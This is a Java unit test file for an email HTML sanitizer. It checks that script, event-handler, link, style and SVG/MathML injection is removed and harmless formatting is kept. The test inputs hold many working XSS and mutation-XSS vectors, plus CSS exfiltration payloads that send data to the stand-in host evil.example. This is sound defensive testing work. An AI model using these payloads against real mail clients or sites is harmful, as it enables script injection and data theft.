package dev.waybill.message.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class HtmlCleanerTest {
    @Test
    void hostileMailKeepsItsTextAndNothingElse() throws IOException {
        // Given
        String mail;
        try (InputStream file = HtmlCleanerTest.class.getResourceAsStream("/mails/hostile-html.eml")) {
            mail = new String(file.readAllBytes(), StandardCharsets.UTF_8);
        }
        // When
        String clean = HtmlCleaner.clean(mail.substring(mail.indexOf("<html>")));
        // Then
        assertThat(clean)
                .contains(
                        "<p style=\"color:red\" class=\"gmail_quote\">Visible text</p>",
                        "href=\"https://good.example/?a=1&amp;b=2\"",
                        "src=\"cid:logo@example.org\"");
        assertThat(clean.toLowerCase(Locale.ROOT))
                .doesNotContain(
                        "alert",
                        "script",
                        "onload",
                        "onclick",
                        "onerror",
                        "javascript",
                        "data:",
                        "refresh",
                        "@import",
                        "<style",
                        "<form",
                        "<input",
                        "<button",
                        "<iframe",
                        "<object",
                        "<svg",
                        "<math",
                        "<link",
                        "<base",
                        "<meta",
                        "position",
                        "url(",
                        "/admin",
                        "title text",
                        "comment",
                        " src=\"http",
                        "modal");
        assertThat(clean).contains("data-remote-src=\"https://evil.example/p.gif\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,x\">x</a>",
                "<a href=\"vbscript:x\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"//evil.example/\">x</a>",
                "<a href=\"relative\">x</a>",
                "<a href=\"#anchor\">x</a>"
            })
    void linkThatLeadsNowhereGoodIsOnlyText(String html) {
        assertThat(HtmlCleaner.clean(html)).isEqualTo("x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
                "<p style=\"background:url(https://evil.example/p)\">x</p>",
                "<p style=\"background:u\\72l(https://evil.example/p)\">x</p>",
                "<p style=\"background-image:image-set('https://evil.example/p' 1x)\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p style=\"content:attr(title)\">x</p>",
                "<p style=\"list-style:url(//evil.example/p)\">x</p>",
                "<p style=\"color:var(--x,url(https://evil.example/p))\">x</p>",
                "<p style=\"behavior:url(#x);-moz-binding:url(https://evil.example/p)\">x</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>x",
                "<table background=https://evil.example/p><tr><td background=https://evil.example/p>x</table>"
            })
    void stylesCanTellNobodyWhatIsRead(String html) {
        assertThat(HtmlCleaner.clean(html).toLowerCase(Locale.ROOT))
                .doesNotContain("evil", "url", "import", "expression", "attr(", "var(", "behavior", "binding");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<form action=https://evil.example/><input name=x><button"
                        + " formaction=javascript:alert(1)>x</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
                "<base href=https://evil.example/>",
                "<template><script>alert(1)</script></template>",
                "<!--[if mso]><script>alert(1)</script><![endif]-->"
            })
    void nothingThatActsIsLeft(String html) {
        assertThat(HtmlCleaner.clean(html).toLowerCase(Locale.ROOT))
                .doesNotContain(
                        "<svg",
                        "<math",
                        "<script",
                        "<form",
                        "<input",
                        "<button",
                        "<meta",
                        "<base",
                        "<iframe",
                        "onerror=\"",
                        "onload",
                        "javascript",
                        "evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<img src=\"data:text/html;base64,PHN2Zz4=\">",
                "<img src=\"relative.png\">",
                "<img srcset=\"https://evil.example/x.png 1x\">",
                "<img background=\"https://evil.example/x.png\">"
            })
    void imageThatIsNoneIsGone(String html) {
        assertThat(HtmlCleaner.clean(html)).isEmpty();
    }

    @Test
    void remoteImagesAreNamedAndNotLoaded() {
        assertThat(HtmlCleaner.clean("<img src=\"https://example.org/a.png?x=1\" alt=\"A\" width=\"10\">"))
                .isEqualTo("<img data-remote-src=\"https://example.org/a.png?x=1\" alt=\"A\" width=\"10\" />");
        assertThat(HtmlCleaner.clean("<img src=\"HTTP://example.org/a.png\">")).startsWith("<img data-remote-src=");
        assertThat(HtmlCleaner.clean("<img data-remote-src=\"https://example.org/a.png\">"))
                .isEmpty();
    }

    @Test
    void picturesInsideTheMailStay() {
        assertThat(HtmlCleaner.clean("<img src=\"cid:a@example.org\">")).isEqualTo("<img src=\"cid:a@example.org\" />");
        assertThat(HtmlCleaner.clean("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"))
                .isEqualTo("<img src=\"data:image/png;base64,iVBORw0KGgo=\" />");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "background:url(https://evil.example/x)",
                "background-image:url('https://evil.example/x')",
                "position:fixed",
                "behavior:url(x)",
                "-moz-binding:url(x)",
                "width:expression(alert(1))",
                "content:'x'",
                "list-style-image:url(https://evil.example/x)",
                "cursor:url(https://evil.example/x),auto",
                "z-index:9999"
            })
    void styleThatReachesOutIsGone(String style) {
        assertThat(HtmlCleaner.clean("<p style=\"" + style + "\">x</p>")).isEqualTo("<p>x</p>");
    }

    @Test
    void ordinaryStylesStay() {
        assertThat(HtmlCleaner.clean("<p style=\"color:#123456;font-weight:bold\">x</p>"))
                .isEqualTo("<p style=\"color:#123456;font-weight:bold\">x</p>");
    }

    @Test
    void linksLeaveThePage() {
        assertThat(HtmlCleaner.clean("<a href=\"https://example.org/\" target=\"_self\">x</a>"))
                .contains("target=\"_blank\"", "rel=\"noopener noreferrer nofollow\"")
                .doesNotContain("_self");
    }

    @Test
    void markersOfQuotesStayAndOtherClassesGo() {
        assertThat(HtmlCleaner.clean("<div class=\"gmail_quote evil-overlay\" id=\"evil\"><blockquote"
                        + " type=\"cite\">x</blockquote></div>"))
                .isEqualTo("<div class=\"gmail_quote\"><blockquote type=\"cite\">x</blockquote></div>");
        assertThat(HtmlCleaner.clean("<div id=\"divRplyFwdMsg\">x</div>"))
                .isEqualTo("<div id=\"divRplyFwdMsg\">x</div>");
    }

    @Test
    void literalEscapesStayLiteral() {
        assertThat(HtmlCleaner.clean("a@b=c &amp;#64; &lt;b&gt;")).isEqualTo("a@b=c &amp;#64; &lt;b&gt;");
    }

    @Test
    void unclosedElementsAreClosed() {
        assertThat(HtmlCleaner.clean("<div><b>x")).isEqualTo("<div><b>x</b></div>");
        assertThat(HtmlCleaner.clean("</div></td>x")).isEqualTo("x");
    }

    @Test
    void inlineDataMakesRoomForTheText() {
        // Given
        String html =
                "<p>before</p><img src=\"data:image/png;base64," + "A".repeat(HtmlCleaner.MOST) + "\"><p>after</p>";
        // When
        String lean = HtmlCleaner.withoutInlineData(html);
        // Then
        assertThat(lean).isEqualTo("<p>before</p><img src=\"data:\"><p>after</p>");
    }

    @Test
    void attributesBeyondTheHundredthAreLeftOut() {
        // Given
        String others = " x=y".repeat(99);
        // When, Then
        assertThat(HtmlCleaner.clean("<b" + others + " title=t>a</b>")).isEqualTo("<b title=\"t\">a</b>");
        assertThat(HtmlCleaner.clean("<b x=y" + others + " title=t>a</b>")).isEqualTo("<b>a</b>");
    }
}
